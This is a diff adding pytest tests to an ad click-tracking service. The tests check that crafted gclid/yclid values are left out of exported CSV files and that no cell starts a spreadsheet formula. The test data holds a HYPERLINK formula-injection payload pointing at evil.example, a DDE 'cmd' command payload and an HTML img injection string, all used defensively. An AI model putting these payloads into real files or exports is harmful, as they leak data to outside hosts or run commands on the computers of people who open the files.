@@ -29,6 +29,8 @@ import pytest
 import redis
 from starlette.testclient import TestClient
 
+from service.integrations.exports import FILES, METRICA_CALL_COLUMNS, csv_file, metrica_call_rows
+from service.rules.engine import Exports
 from tests.conftest import BROWSER_HEADERS, Clock, one_site, site_client, start
 from tests.receiver import Answer, Receiver, Request
 from tests.test_visits import AD, ORIGIN, REPORT, SITE, Browser, beacon, call
@@ -89,6 +91,44 @@ def test_the_files_have_the_platforms_columns_and_only_what_came_from_their_clic
     assert climate.get("/v1/exports/climate/bing.csv", headers=REPORT).status_code == 404
     assert climate.get("/v1/exports/climate/metrica.csv").status_code == 401
 
+
+
+def test_a_crafted_click_id_reaches_no_file_and_the_visit_keeps_its_source(climate: TestClient, clock: Clock) -> None:
+    """A link with `gclid==HYPERLINK(…)` or `yclid="><img…` lands and converts: its id is dropped
+    where the visit's traffic is read, the visit is still the ad's."""
+    crafted = [f"{ORIGIN}/?gclid==HYPERLINK(%22http://evil.example/?%22&A1,%22click%22)",
+               f"{ORIGIN}/?yclid=%22%3E%E2%80%B9img%20src=x%3E", f"{ORIGIN}/?yclid=777abc&gclid=-Cj0KCQiA"]
+    sources = []
+    for n, address in enumerate(crafted):
+        landed = Browser(climate, vid=f"crafted-visitor-{n:06d}").open(address)
+        sources.append((landed["source"]["source"], landed["source"]["medium"]))
+        beacon(climate, landed["token"], f"crafted-form-{n}")
+        clock.advance(20)
+        call(climate, landed["phone"]["number"], clock.now, call_id=f"crafted-call-{n}")
+    assert sources == [("google", "cpc"), ("yandex", "cpc"), ("google", "cpc")]
+    assert download(climate, "metrica")[1:] == [] and download(climate, "metrica-calls")[1:] == []
+    assert download(climate, "google-ads")[2:] == []
+    calls = climate.get("/v1/calls/climate", headers=REPORT).json()["entries"]
+    assert len(calls) == 3 and all(entry["visit"]["click_ids"] == {} for entry in calls)
+
+
+def test_the_files_never_hold_a_cell_a_spreadsheet_would_run() -> None:
+    """Visits recorded before click ids were checked may hold anything: such an id is left out,
+    and no text cell of a file starts a formula (the landing page is the visitor's to choose)."""
+    call = {"qualified": True, "number": "+74951500001", "talk_seconds": 90, "unique": True}
+    crafted = {"yclid": '">‹img src=x>', "gclid": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    entries = [{"kind": "call", "at": 1_795_000_000_000, "call": call,
+                "visit": {"click_ids": clicks, "landing": landing}}
+               for clicks, landing in [(crafted, "/"), ({"yclid": "777", "gclid": "Cj0KCQiA-1"}, "=cmd|' /C calc'!A0")]]
+    exports = Exports(kinds=frozenset({"qualified_call"}), value=1500, currency="RUB")
+    for name, (make, columns, first_line) in FILES.items():
+        text = csv_file(columns, make(entries, exports), first_line)
+        rows = list(csv.reader(io.StringIO(text.removeprefix(first_line))))[1:]
+        assert len(rows) == 1 and rows[0][0] in ("777", "Cj0KCQiA-1"), name
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0]
+                       if cell != "+74951500001"), rows
+    assert list(csv.reader(io.StringIO(csv_file(METRICA_CALL_COLUMNS, metrica_call_rows(entries, exports)))))[1][-1] \
+        == "'=cmd|' /C calc'!A0"
 
 class Platforms:
     """Yandex Metrica's and Google's APIs as their docs describe the requests; each request
